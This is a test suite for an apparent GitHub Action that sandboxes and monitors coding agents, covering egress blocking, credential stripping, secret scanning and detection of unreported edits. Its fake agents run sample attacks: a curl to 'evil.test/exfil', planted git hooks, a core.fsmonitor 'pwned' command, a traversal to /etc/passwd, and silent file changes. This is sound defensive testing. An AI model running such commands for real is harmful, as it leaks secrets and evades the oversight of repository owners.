/**
 * End to end: a fake agent (a bash command) against a local bare git remote, the real egress proxy with a fake
 * resolver, nock for the pull-request API and an injected artifact uploader.
 */
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import http from "node:http";
import net, { type AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { zipSync } from "fflate";
import nock from "nock";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { BUNDLE_ARTIFACT_NAME, bundleEventSchema, bundleManifestSchema, networkAttemptSchema } from "../../src/telemetry/bundle.js";
import { parseTelemetryArtifact } from "../../src/telemetry/artifact.js";
import { crossCheck } from "../../src/telemetry/crosscheck.js";
import { renderRationaleMarkdown } from "../../src/telemetry/render.js";
import { parseNativeBundle } from "../../src/telemetry/parse.js";
import { openPullRequest } from "../src/github.js";
import { readContext, readInputs } from "../src/inputs.js";
import { runAgentGate, type RunDeps } from "../src/run.js";
import { git, makeRepo, recordingReporter, runnerEnv, type Fixture } from "./helpers.js";

let upstream: http.Server;
let upstreamPort = 0;
beforeAll(async () => {
  upstream = http.createServer((_req, res) => res.end("docs page"));
  await new Promise<void>((r) => upstream.listen(0, "127.0.0.1", r));
  upstreamPort = (upstream.address() as AddressInfo).port;
});
afterAll(() => new Promise<void>((r) => upstream.close(() => r())));

const fixtures: Fixture[] = [];
afterEach(() => {
  for (const f of fixtures.splice(0)) f.cleanup();
});

function setup(command: string, inputOverrides: Record<string, string> = {}) {
  const fx = makeRepo();
  fixtures.push(fx);
  const env = runnerEnv(fx);
  const inputs = readInputs((name) =>
    ({
      prompt: "Update the greeting in src/app.js and remove old.txt",
      agent: "command",
      command,
      "allowed-domains": `docs.allowed.test:${upstreamPort}\n*.pypi.test`,
      "github-token": env.GITHUB_TOKEN!,
      "agent-env": "OPENAI_API_KEY",
      ...inputOverrides,
    })[name] ?? "",
  );
  const ctx = readContext(env);
  const reporter = recordingReporter();
  const uploads: Array<{ name: string; files: Record<string, string>; root: string }> = [];
  const deps: RunDeps = {
    env,
    reporter,
    sandboxUser: null,
    remoteUrl: fx.remote,
    openPullRequest,
    uploadArtifact: async (name, files, root) => {
      uploads.push({ name, root, files: Object.fromEntries(files.map((f) => [path.relative(root, f), readFileSync(f, "utf8")])) });
      return { id: 1 };
    },
    resolve: async (host) => (host.endsWith(".allowed.test") ? ["127.0.0.1"] : ["93.184.216.34"]),
    allowLoopbackUpstreams: true,
    permissionOf: async () => "write",
  };
  return { fx, env, inputs, ctx, reporter, uploads, deps };
}

const FAKE_AGENT = String.raw`
set -u
echo "console.log('hello from the agent');" > src/app.js
git rm -q old.txt 2>/dev/null || rm old.txt
mkdir -p docs && printf 'notes\n' > docs/notes.md
{
  [ -z "${"$"}{GITHUB_TOKEN:-}" ] && echo "GITHUB_TOKEN absent"
  [ -z "${"$"}{ACTIONS_RUNTIME_TOKEN:-}" ] && echo "ACTIONS_RUNTIME_TOKEN absent"
  [ -z "${"$"}{DATABASE_PASSWORD:-}" ] && echo "DATABASE_PASSWORD absent"
  [ -n "${"$"}{OPENAI_API_KEY:-}" ] && echo "OPENAI_API_KEY present"
  echo "prompt: $AGENT_GATE_PROMPT"
} > docs/env-seen.txt
curl -s --max-time 5 http://docs.allowed.test:PORT/page > docs/fetched.txt || echo fetch-failed > docs/fetched.txt
curl -s -o /dev/null -w '%{http_code}' --max-time 5 http://evil.test/exfil > docs/evil-status.txt || true
curl -s --max-time 5 https://evil.test/ >/dev/null 2>&1 || echo "https refused" >> docs/evil-status.txt
printf '%s\n' '{"time":"2030-01-01T00:00:00Z","type":"decision","decision":"Keep the greeting short","rationale":"One line is enough","alternatives":["a banner"],"files":["src/app.js"]}' >> "$AGENT_GATE_DECISIONS_FILE"
printf '%s\n' '{"time":"2030-01-01T00:00:00Z","type":"command","command":"forged","exitCode":0}' 'not json' >> "$AGENT_GATE_DECISIONS_FILE"
echo "using key $OPENAI_API_KEY"
`;

describe("end to end with a fake agent", () => {
  it("commits, pushes agent/<run id> with the trailer, opens the PR and uploads a valid bundle", async () => {
    const t = setup(FAKE_AGENT.replace("PORT", String(upstreamPort)));
    let prBody: Record<string, unknown> = {};
    const scope = nock("https://api.github.com", { reqheaders: { authorization: "token ghs_workflowtoken1234567890" } })
      .post("/repos/octo/demo/pulls", (body: Record<string, unknown>) => ((prBody = body), true))
      .reply(201, { number: 17, html_url: "https://github.com/octo/demo/pull/17" });

    const result = await runAgentGate(t.inputs, t.ctx, t.deps);

    expect(result.failure).toBeNull();
    expect(result.outcome).toBe("succeeded");
    expect(scope.isDone()).toBe(true);
    expect(nock.pendingMocks()).toEqual([]);

    // The remote has the branch, with the action's commit and trailer.
    const remoteSha = git(t.fx.remote, "rev-parse", "refs/heads/agent/4242");
    expect(result.manifest?.headSha).toBe(remoteSha);
    const message = git(t.fx.remote, "log", "-1", "--format=%B", "agent/4242");
    expect(message).toMatch(/^agent: Update the greeting in src\/app\.js and remove old\.txt/);
    expect(git(t.fx.remote, "log", "-1", "--format=%(trailers:key=Agent-Gate-Run,valueonly)", "agent/4242")).toBe("https://github.com/octo/demo/actions/runs/4242");
    expect(git(t.fx.remote, "log", "-1", "--format=%an <%ae>", "agent/4242")).toBe("github-actions[bot] <41898282+github-actions[bot]@users.noreply.github.com>");
    expect(git(t.fx.remote, "show", "agent/4242:src/app.js")).toBe("console.log('hello from the agent');");
    expect(git(t.fx.remote, "ls-tree", "-r", "--name-only", "agent/4242").split("\n").sort()).toEqual(
      ["README.md", "docs/env-seen.txt", "docs/evil-status.txt", "docs/fetched.txt", "docs/notes.md", "src/app.js"].sort(),
    );
    // What the agent saw: no token, no runner credentials, no other secret, only the named key; the proxy worked.
    expect(git(t.fx.remote, "show", "agent/4242:docs/env-seen.txt").split("\n")).toEqual([
      "GITHUB_TOKEN absent",
      "ACTIONS_RUNTIME_TOKEN absent",
      "DATABASE_PASSWORD absent",
      "OPENAI_API_KEY present",
      "prompt: Update the greeting in src/app.js and remove old.txt",
    ]);
    expect(git(t.fx.remote, "show", "agent/4242:docs/fetched.txt")).toBe("docs page");
    expect(git(t.fx.remote, "show", "agent/4242:docs/evil-status.txt")).toBe("403https refused");
    // The token was never written into the checkout's config.
    const config = readFileSync(path.join(t.fx.workspace, ".git", "config"), "utf8");
    expect(config).not.toMatch(/extraheader|ghs_/i);
    expect(git(t.fx.remote, "rev-parse", "refs/heads/main")).not.toBe(remoteSha);

    // The pull request request.
    expect(prBody).toMatchObject({ head: "agent/4242", base: "main", title: "agent: Update the greeting in src/app.js and remove old.txt" });
    expect(prBody.body).toContain("Update the greeting in src/app.js and remove old.txt");
    expect(prBody.body).toContain("https://github.com/octo/demo/actions/runs/4242");
    expect(prBody.body).toContain("`command`");

    // Outputs and summary.
    expect(t.reporter.outputs).toMatchObject({ branch: "agent/4242", "pull-request-number": "17", "pull-request-url": "https://github.com/octo/demo/pull/17" });
    expect(t.reporter.outputs["telemetry-path"]).toBe(result.telemetryPath);
    expect(t.reporter.secrets).toEqual(expect.arrayContaining(["ghs_workflowtoken1234567890", "sk-test-openai-key-0001"]));
    const summary = t.reporter.summaries.join("\n");
    expect(summary).toContain("✅ succeeded");
    expect(summary).toMatch(/2 blocked/);
    expect(summary).toContain("`evil.test`");

    // The bundle: uploaded under the contract's name, valid, and naming this run, PR and commit.
    expect(t.uploads).toHaveLength(1);
    const upload = t.uploads[0]!;
    expect(upload.name).toBe(BUNDLE_ARTIFACT_NAME);
    expect(Object.keys(upload.files).sort()).toEqual(["events.jsonl", "manifest.json", "network.jsonl"]);
    const manifest = bundleManifestSchema.parse(JSON.parse(upload.files["manifest.json"]!));
    expect(manifest).toMatchObject({
      version: 1,
      repository: "octo/demo",
      runId: 4242,
      runAttempt: 1,
      workflowPath: ".github/workflows/agent.yml",
      pullRequest: { number: 17, url: "https://github.com/octo/demo/pull/17" },
      branch: "agent/4242",
      headSha: remoteSha,
      baseRef: "main",
      agent: { name: "command" },
      triggeredBy: "mona",
      outcome: "succeeded",
      exitCode: 0,
      network: { mode: "block", allowedDomains: [`docs.allowed.test:${upstreamPort}`, "*.pypi.test"] },
    });
    const events = upload.files["events.jsonl"]!.trim().split("\n").map((l) => bundleEventSchema.parse(JSON.parse(l)));
    const network = upload.files["network.jsonl"]!.trim().split("\n").map((l) => networkAttemptSchema.parse(JSON.parse(l)));
    expect(events.filter((e) => e.type === "decision")).toEqual([
      expect.objectContaining({ decision: "Keep the greeting short", rationale: "One line is enough", alternatives: ["a banner"], files: ["src/app.js"] }),
    ]);
    expect(events.some((e) => e.type === "command" && e.command === "forged")).toBe(false);
    expect(events).toContainEqual(expect.objectContaining({ type: "error", message: "ignored 2 invalid line(s) in the decisions file" }));
    // What git staged is recorded as git_change, never as the agent's own file_change report.
    expect(events.filter((e) => e.type === "file_change")).toEqual([]);
    expect(events.filter((e) => e.type === "git_change").map((e) => (e.type === "git_change" ? `${e.kind} ${e.path}` : "")).sort()).toEqual(
      ["add docs/env-seen.txt", "add docs/evil-status.txt", "add docs/fetched.txt", "add docs/notes.md", "delete old.txt", "update src/app.js"].sort(),
    );
    const agentCommand = events.find((e) => e.type === "command" && e.command.startsWith("bash -c"));
    expect(agentCommand).toMatchObject({ exitCode: 0 });
    expect(events.some((e) => e.type === "command" && e.command.includes("git") && e.command.includes("push"))).toBe(true);
    expect(network.map((a) => `${a.method} ${a.host} ${a.allowed} ${a.reason}`)).toEqual([
      `HTTP docs.allowed.test true allowlisted`,
      `HTTP evil.test false not-allowlisted`,
      `CONNECT evil.test false not-allowlisted`,
    ]);
    // Each attempt names the process that made it (issue 17, section 4): here the agent's curl commands.
    expect(network.map((a) => a.process?.command?.split(" ")[0])).toEqual(["curl", "curl", "curl"]);
    expect(network[1]!.process?.command).toContain("http://evil.test/exfil");
    expect(network.every((a) => typeof a.process?.pid === "number")).toBe(true);
    // Secrets handed to or held by the run never reach the telemetry.
    const everything = Object.values(upload.files).join("\n");
    expect(everything).not.toContain("sk-test-openai-key-0001");
    expect(everything).not.toContain("ghs_workflowtoken1234567890");
    // The key is held (hold-api-keys defaults to true): the agent only ever saw a placeholder.
    expect(everything).toMatch(/using key agent-gate-placeholder-openai-api-key-[0-9a-f]{12}/);
    // Times are ordered.
    const times = events.map((e) => e.time);
    expect([...times].sort()).toEqual(times);

    // Round trip through the App's parsers: the files as they are, and as the artifact zip the App downloads.
    const parsed = parseNativeBundle({ manifest: upload.files["manifest.json"]!, events: upload.files["events.jsonl"]!, network: upload.files["network.jsonl"]! });
    expect(parsed.manifest).toEqual(manifest);
    expect(parsed.trace.stats.malformedTotal).toBe(0);
    expect(parsed.trace.files.paths).toEqual([]);
    expect(parsed.trace.gitFiles?.paths.map((p) => p.path).sort()).toEqual(["docs/env-seen.txt", "docs/evil-status.txt", "docs/fetched.txt", "docs/notes.md", "old.txt", "src/app.js"]);
    expect(parsed.trace.steps.filter((s) => s.kind === "decision")).toHaveLength(1);
    expect(parsed.trace.steps.filter((s) => s.kind === "network" )).toHaveLength(3);
    const zip = zipSync(Object.fromEntries(Object.entries(upload.files).map(([n, c]) => [n, new TextEncoder().encode(c)])));
    const fromZip = parseTelemetryArtifact(zip);
    expect(fromZip.format).toBe("native");
    expect(fromZip.manifest).toEqual(manifest);
    expect(fromZip.trace.steps.length).toBe(parsed.trace.steps.length);
  });

  it("invariant 7: the cross-check fires on a real bundle whose agent changed files through a shell command and silently", async () => {
    // A fake `claude` on PATH: it reports one Edit, runs `sed -i` on README.md (a reported command, not a reported
    // edit) and writes docs/hidden.txt without a word. Its stream-json transcript goes into the bundle as the real CLI's would.
    const bin = path.join(os.tmpdir(), `agent-gate-fake-claude-${process.pid}-${Date.now()}`);
    mkdirSync(bin, { recursive: true });
    const claude = String.raw`#!/bin/bash
set -eu
cat > /dev/null
emit() { printf '%s
' "$1"; }
emit '{"type":"system","subtype":"init","cwd":"'"$PWD"'","session_id":"fake-session","model":"claude-fake","tools":["Bash","Edit"]}'
echo "console.log('edited by the agent');" > src/app.js
emit '{"type":"assistant","message":{"model":"claude-fake","content":[{"type":"tool_use","id":"t1","name":"Edit","input":{"file_path":"'"$PWD"'/src/app.js","old_string":"v1","new_string":"edited by the agent"}}]}}'
emit '{"type":"user","message":{"content":[{"type":"tool_result","tool_use_id":"t1","content":"The file was updated."}]}}'
sed -i 's/Demo/Demo project/' README.md
emit '{"type":"assistant","message":{"model":"claude-fake","content":[{"type":"tool_use","id":"t2","name":"Bash","input":{"command":"sed -i '"'"'s/Demo/Demo project/'"'"' README.md"}}]}}'
emit '{"type":"user","message":{"content":[{"type":"tool_result","tool_use_id":"t2","content":""}]}}'
mkdir -p docs && echo "nobody said" > docs/hidden.txt
emit '{"type":"result","subtype":"success","is_error":false,"duration_ms":1200,"num_turns":3,"result":"Updated src/app.js.","session_id":"fake-session","total_cost_usd":0.01,"usage":{"input_tokens":10,"output_tokens":5}}'
`;
    writeFileSync(path.join(bin, "claude"), claude, { mode: 0o755 });
    try {
      const t = setup("", { agent: "claude-code" });
      t.deps.env = { ...t.deps.env, PATH: `${bin}:${t.deps.env.PATH ?? "/usr/bin:/bin"}` };
      t.deps.mcpServerScript = path.join(import.meta.dirname, "..", "dist", "mcp.js");
      nock("https://api.github.com").post("/repos/octo/demo/pulls").reply(201, { number: 18, html_url: "https://github.com/octo/demo/pull/18" });

      const result = await runAgentGate(t.inputs, t.ctx, t.deps);
      expect(result.failure).toBeNull();
      const upload = t.uploads[0]!;
      expect(Object.keys(upload.files).sort()).toEqual(["claude-code.jsonl", "events.jsonl", "manifest.json", "network.jsonl"]);

      // The App's side: the artifact zip as GitHub serves it, the PR's files as the pushed commit has them.
      const zip = zipSync(Object.fromEntries(Object.entries(upload.files).map(([n, c]) => [n, new TextEncoder().encode(c)])));
      const { trace } = parseTelemetryArtifact(zip);
      const prFiles = git(t.fx.remote, "diff", "--name-only", "main", "agent/4242").trim().split("\n").map((filename) => ({ filename }));
      expect(prFiles.map((f) => f.filename).sort()).toEqual(["README.md", "docs/hidden.txt", "src/app.js"]);
      expect(trace.files.paths).toEqual([{ path: "src/app.js", change: "update" }]);
      expect(trace.gitFiles?.paths.map((p) => p.path).sort()).toEqual(["README.md", "docs/hidden.txt", "src/app.js"]);
      const cc = crossCheck(trace, prFiles);
      expect(cc.unreported).toEqual(["README.md", "docs/hidden.txt"]);
      expect(cc.likelySources).toEqual([{ path: "README.md", commands: ["sed -i 's/Demo/Demo project/' README.md"], namesFile: true }]);
      const rendered = renderRationaleMarkdown(trace, { crossCheck: cc });
      expect(rendered.title).toMatch(/2 unreported files/);
      expect(rendered.summary).toContain("2 files changed in the pull request but never reported by the agent");
      expect(rendered.summary).toContain("likely changed by `sed -i 's/Demo/Demo project/' README.md`");
    } finally {
      rmSync(bin, { recursive: true, force: true });
    }
  });

  it("no changes: no commit, no branch, no pull request, a clear summary and a bundle saying no_changes", async () => {
    const t = setup("echo looked around; ls > /dev/null");
    const result = await runAgentGate(t.inputs, t.ctx, t.deps);
    expect(result).toMatchObject({ outcome: "no_changes", failure: null, pullRequest: null, branch: null });
    expect(() => git(t.fx.remote, "rev-parse", "--verify", "-q", "refs/heads/agent/4242")).toThrow();
    expect(t.reporter.outputs).not.toHaveProperty("pull-request-number");
    expect(t.reporter.summaries.join("\n")).toContain("The agent changed no files, so no pull request was opened.");
    const manifest = bundleManifestSchema.parse(JSON.parse(t.uploads[0]!.files["manifest.json"]!));
    expect(manifest).toMatchObject({ outcome: "no_changes", pullRequest: null, headSha: null, branch: "agent/4242" });
  });

  it("an agent that writes .git/hooks fails the run: nothing committed, nothing pushed, the hook never runs", async () => {
    const marker = "hook-ran.txt";
    const t = setup(`echo change >> README.md; printf '#!/bin/sh\\ntouch "$GIT_DIR/../${marker}"\\ntouch /tmp/agent-gate-hook-ran-$$\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`);
    const result = await runAgentGate(t.inputs, t.ctx, t.deps);
    expect(result.outcome).toBe("failed");
    expect(result.failure).toMatch(/the agent wrote under \.git \(hooks\/pre-commit\)/);
    expect(result.pullRequest).toBeNull();
    expect(() => git(t.fx.remote, "rev-parse", "--verify", "-q", "refs/heads/agent/4242")).toThrow();
    expect(existsSync(path.join(t.fx.workspace, marker))).toBe(false);
    const manifest = bundleManifestSchema.parse(JSON.parse(t.uploads[0]!.files["manifest.json"]!));
    expect(manifest.outcome).toBe("failed");
    expect(t.uploads[0]!.files["events.jsonl"]).toContain("wrote under .git");
  });

  it("an agent that rewrites .git/config fails the run", async () => {
    const t = setup(`echo x >> README.md; git config core.fsmonitor 'touch /tmp/pwned'`);
    const result = await runAgentGate(t.inputs, t.ctx, t.deps);
    expect(result.failure).toMatch(/wrote under \.git \(config\)/);
    expect(() => git(t.fx.remote, "rev-parse", "--verify", "-q", "refs/heads/agent/4242")).toThrow();
  });

  it("an agent that exits non-zero fails the run without a pull request", async () => {
    const t = setup("echo partial > partial.txt; echo boom >&2; exit 3");
    const result = await runAgentGate(t.inputs, t.ctx, t.deps);
    expect(result).toMatchObject({ outcome: "failed", pullRequest: null });
    expect(result.failure).toMatch(/exited with 3/);
    const events = t.uploads[0]!.files["events.jsonl"]!;
    expect(events).toContain('"exitCode":3');
    expect(events).toContain("boom");
  });

  it("a secret in the agent's diff stops the push: no branch, no PR, file and line (redacted) in the summary and the telemetry", async () => {
    // The key is assembled at run time so the command line in the telemetry does not hold it.
    // hold-api-keys: false hands the agent the real key, which it then writes into a file.
    const t = setup(`printf 'const a = 1;\\nconst id = "AKIA%s";\\n' IOSFODNN7EXAMPLE > src/keys.js; echo "key=$OPENAI_API_KEY" > leak.txt`, { "hold-api-keys": "false" });
    const result = await runAgentGate(t.inputs, t.ctx, t.deps);
    expect(result.outcome).toBe("failed");
    expect(result.failure).toMatch(/the agent's diff holds 2 possible secret\(s\) \(leak\.txt:1 the value of agent-env OPENAI_API_KEY, src\/keys\.js:2 an AWS access key id\); nothing was pushed/);
    expect(result.pullRequest).toBeNull();
    expect(result.branch).toBeNull();
    expect(() => git(t.fx.remote, "rev-parse", "--verify", "-q", "refs/heads/agent/4242")).toThrow();
    expect(nock.pendingMocks()).toEqual([]);
    const summary = t.reporter.summaries.join("\n");
    expect(summary).toContain("### Possible secrets in the diff");
    expect(summary).toContain("| `src/keys.js` | 2 | an AWS access key id |");
    const files = t.uploads[0]!.files;
    const manifest = bundleManifestSchema.parse(JSON.parse(files["manifest.json"]!));
    expect(manifest).toMatchObject({ outcome: "failed", headSha: null, pullRequest: null });
    expect(files["events.jsonl"]).toContain("secret in the diff: src/keys.js:2 (an AWS access key id); not pushed");
    const everything = [summary, ...Object.values(files)].join("\n");
    expect(everything).not.toContain("AKIAIOSFODNN7EXAMPLE");
    expect(everything).not.toContain("sk-test-openai-key-0001");
  });

  it("allow-secrets-in-diff: true pushes anyway and still reports the hits", async () => {
    const t = setup(`echo 'id = "AKIAIOSFODNN7EXAMPLE"' > keys.txt`, { "allow-secrets-in-diff": "true" });
    nock("https://api.github.com").post("/repos/octo/demo/pulls").reply(201, { number: 18, html_url: "https://github.com/octo/demo/pull/18" });
    const result = await runAgentGate(t.inputs, t.ctx, t.deps);
    expect(result).toMatchObject({ outcome: "succeeded", failure: null, branch: "agent/4242" });
    expect(git(t.fx.remote, "show", "agent/4242:keys.txt")).toContain("AKIAIOSFODNN7EXAMPLE");
    expect(t.reporter.summaries.join("\n")).toContain("| `keys.txt` | 1 | an AWS access key id |");
    expect(t.uploads[0]!.files["events.jsonl"]).toContain("secret in the diff: keys.txt:1 (an AWS access key id); pushed anyway (allow-secrets-in-diff: true)");
  });

  it("allow-secrets-in-diff must be a boolean", () => {
    expect(() => setup("true", { "allow-secrets-in-diff": "yes please" })).toThrow(/allow-secrets-in-diff: allow-secrets-in-diff must be true or false|allow-secrets-in-diff must be true or false/);
  });

  it("a phase that fails after the proxy started releases every resource: proxy closed, HOME removed", async () => {
    const t = setup("touch agent-ran.txt", { agent: "codex" });
    const infos: string[] = [];
    t.deps.reporter.info = (m) => void infos.push(m);
    t.deps.mcpServerScript = path.join(t.fx.root, "no-such-mcp.js");
    // The HOME is made under os.tmpdir(): point it at this test's own directory so other runs cannot interfere.
    const tmp = path.join(t.fx.root, "tmp");
    mkdirSync(tmp);
    const saved = process.env.TMPDIR;
    process.env.TMPDIR = tmp;
    const result = await runAgentGate(t.inputs, t.ctx, t.deps).finally(() => {
      if (saved === undefined) delete process.env.TMPDIR;
      else process.env.TMPDIR = saved;
    });
    expect(result.outcome).toBe("failed");
    expect(result.failure).toMatch(/the MCP server bundle .*no-such-mcp\.js is missing/);
    expect(existsSync(path.join(t.fx.workspace, "agent-ran.txt"))).toBe(false);
    const port = Number(/egress proxy on http:\/\/127\.0\.0\.1:(\d+)/.exec(infos.join("\n"))?.[1]);
    expect(port).toBeGreaterThan(0);
    const refused = await new Promise<string>((resolve) => {
      const socket = net.connect({ host: "127.0.0.1", port }, () => (socket.destroy(), resolve("connected")));
      socket.on("error", (err: NodeJS.ErrnoException) => resolve(err.code ?? "error"));
    });
    expect(refused).toBe("ECONNREFUSED");
    expect(os.tmpdir()).not.toBe(tmp);
    expect(readdirSync(tmp)).toEqual([]);
    expect(t.uploads).toHaveLength(1);
  });

  it("who may trigger: a user with read access is refused before anything runs (the GitHub permission API)", async () => {
    const t = setup("touch agent-ran.txt");
    delete t.deps.permissionOf;
    // The response shape of GET /repos/{owner}/{repo}/collaborators/{username}/permission (GitHub REST docs).
    const scope = nock("https://api.github.com")
      .get("/repos/octo/demo/collaborators/mona/permission")
      .reply(200, { permission: "read", role_name: "read", user: { login: "mona", id: 1, type: "User" } });
    const result = await runAgentGate(t.inputs, t.ctx, t.deps);
    expect(scope.isDone()).toBe(true);
    expect(result.outcome).toBe("failed");
    expect(result.failure).toBe("mona may not start an agent run: their permission on octo/demo is read, and runs need write access (or allowed-users)");
    expect(existsSync(path.join(t.fx.workspace, "agent-ran.txt"))).toBe(false);
    expect(t.uploads).toHaveLength(1);
  });

  it("who may trigger: write access passes, a stranger (404) is refused, allowed-users lets a named user or everyone in", async () => {
    const t = setup("echo ok > ran.txt");
    delete t.deps.permissionOf;
    nock("https://api.github.com").get("/repos/octo/demo/collaborators/mona/permission").reply(200, { permission: "write", role_name: "maintain", user: { login: "mona" } });
    nock("https://api.github.com").post("/repos/octo/demo/pulls").reply(201, { number: 19, html_url: "https://github.com/octo/demo/pull/19" });
    expect((await runAgentGate(t.inputs, t.ctx, t.deps)).failure).toBeNull();
    const stranger = setup("echo ok > ran.txt");
    delete stranger.deps.permissionOf;
    nock("https://api.github.com").get("/repos/octo/demo/collaborators/mona/permission").reply(404, { message: "Not Found" });
    expect((await runAgentGate(stranger.inputs, stranger.ctx, stranger.deps)).failure).toMatch(/permission on octo\/demo is none/);
    const named = setup("true", { "allowed-users": "octocat, MONA" });
    delete named.deps.permissionOf;
    expect((await runAgentGate(named.inputs, named.ctx, named.deps)).outcome).toBe("no_changes");
    expect(nock.pendingMocks()).toEqual([]);
  });

  it("prompt-file: the task is read from a file in the workspace; a path out of it is refused", async () => {
    const t = setup('printf "%s" "$AGENT_GATE_PROMPT" > seen-prompt.txt', { prompt: "", "prompt-file": ".github/agent-task.md" });
    mkdirSync(path.join(t.fx.workspace, ".github"));
    writeFileSync(path.join(t.fx.workspace, ".github", "agent-task.md"), "Fix the greeting\n\nKeep it short.\n");
    git(t.fx.workspace, "add", "-A");
    git(t.fx.workspace, "commit", "-q", "-m", "task file");
    let body = "";
    nock("https://api.github.com").post("/repos/octo/demo/pulls", (b: { body: string }) => ((body = b.body), true)).reply(201, { number: 20, html_url: "https://github.com/octo/demo/pull/20" });
    const result = await runAgentGate(t.inputs, t.ctx, t.deps);
    expect(result.failure).toBeNull();
    expect(git(t.fx.remote, "show", "agent/4242:seen-prompt.txt")).toBe("Fix the greeting\n\nKeep it short.");
    expect(body).toContain("Keep it short.");
    expect(result.manifest?.task).toBe("Fix the greeting\n\nKeep it short.");
    const out = setup("touch ran.txt", { prompt: "", "prompt-file": "../runner-temp/../../etc/passwd" });
    expect((await runAgentGate(out.inputs, out.ctx, out.deps)).failure).toMatch(/prompt-file .* is not a file inside the workspace/);
    expect(() => setup("true", { "prompt-file": "x.md" })).toThrow(/give prompt or prompt-file, not both/);
  });

  it("iterate: /agent on the agent's PR checks out its branch, pushes a new commit to it and opens no new PR", async () => {
    const first = setup("echo one > notes.txt");
    nock("https://api.github.com").post("/repos/octo/demo/pulls").reply(201, { number: 17, html_url: "https://github.com/octo/demo/pull/17" });
    expect((await runAgentGate(first.inputs, first.ctx, first.deps)).outcome).toBe("succeeded");
    const firstHead = git(first.fx.remote, "rev-parse", "refs/heads/agent/4242");

    // The comment's run: a fresh checkout of the default branch (as actions/checkout does for issue_comment).
    const workspace = path.join(first.fx.root, "comment-run");
    git(first.fx.root, "clone", "-q", first.fx.remote, workspace);
    const env = { ...runnerEnv({ ...first.fx, workspace }), GITHUB_RUN_ID: "4243", GITHUB_ACTOR: "hubot" };
    const inputs = readInputs((n) => ({ prompt: "/agent also add two", "pull-request": "17", agent: "command", command: 'echo two >> notes.txt; printf "%s" "$AGENT_GATE_PROMPT" > last-task.txt', "github-token": env.GITHUB_TOKEN! })[n] ?? "");
    // GET /repos/{owner}/{repo}/pulls/{number}: the real pull_request object from @octokit/webhooks-examples, pointed at this PR.
    const real = JSON.parse(readFileSync(path.resolve(import.meta.dirname, "../../test/fixtures/github/pull_request.opened.json"), "utf8")) as { pull_request: Record<string, unknown> & { head: Record<string, unknown>; base: Record<string, unknown> } };
    const pr = { ...real.pull_request, number: 17, state: "open", html_url: "https://github.com/octo/demo/pull/17", head: { ...real.pull_request.head, ref: "agent/4242", sha: firstHead, repo: { full_name: "octo/demo" } }, base: { ...real.pull_request.base, ref: "main" } };
    const get = nock("https://api.github.com").get("/repos/octo/demo/pulls/17").reply(200, pr);
    const deps: RunDeps = { ...first.deps, env };
    const result = await runAgentGate(inputs, readContext(env), deps);

    expect(result.failure).toBeNull();
    expect(get.isDone()).toBe(true);
    expect(nock.pendingMocks()).toEqual([]); // no new pull request was opened
    expect(result).toMatchObject({ outcome: "succeeded", branch: "agent/4242", pullRequest: { number: 17, url: "https://github.com/octo/demo/pull/17" } });
    const newHead = git(first.fx.remote, "rev-parse", "refs/heads/agent/4242");
    expect(git(first.fx.remote, "rev-parse", "agent/4242~1")).toBe(firstHead);
    expect(git(first.fx.remote, "show", "agent/4242:notes.txt")).toBe("one\ntwo");
    expect(git(first.fx.remote, "show", "agent/4242:last-task.txt")).toBe("also add two");
    expect(git(first.fx.remote, "log", "-1", "--format=%(trailers:key=Agent-Gate-Run,valueonly)", "agent/4242")).toBe("https://github.com/octo/demo/actions/runs/4243");
    const manifest = bundleManifestSchema.parse(JSON.parse(first.uploads.at(-1)!.files["manifest.json"]!));
    expect(manifest).toMatchObject({ runId: 4243, branch: "agent/4242", headSha: newHead, pullRequest: { number: 17 }, baseRef: "main", task: "also add two", triggeredBy: "hubot" });
  });

  it("iterate: refuses a closed PR, a fork's PR and a PR that is not an agent's, before the agent runs", async () => {
    const base = { number: 17, url: "https://github.com/octo/demo/pull/17", state: "open", headRef: "agent/4242", headSha: "0".repeat(40), headRepository: "octo/demo", baseRef: "main" };
    for (const [override, message] of [
      [{ state: "closed" }, /pull request #17 is closed/],
      [{ headRepository: "mallory/demo" }, /comes from mallory\/demo, not octo\/demo/],
      [{ headRef: "feature/login" }, /is not an agent pull request \(its branch feature\/login does not start with agent\/\)/],
    ] as const) {
      const t = setup("touch agent-ran.txt", { prompt: "/agent go", "pull-request": "17" });
      t.deps.getPullRequest = async () => ({ ...base, ...override });
      const result = await runAgentGate(t.inputs, t.ctx, t.deps);
      expect(result.failure).toMatch(message);
      expect(existsSync(path.join(t.fx.workspace, "agent-ran.txt"))).toBe(false);
    }
  });

  it("a checkout that persisted credentials fails before the agent starts", async () => {
    const t = setup("touch agent-ran.txt");
    git(t.fx.workspace, "config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hz");
    const result = await runAgentGate(t.inputs, t.ctx, t.deps);
    expect(result.failure).toMatch(/persist-credentials: false/);
    expect(existsSync(path.join(t.fx.workspace, "agent-ran.txt"))).toBe(false);
  });
});
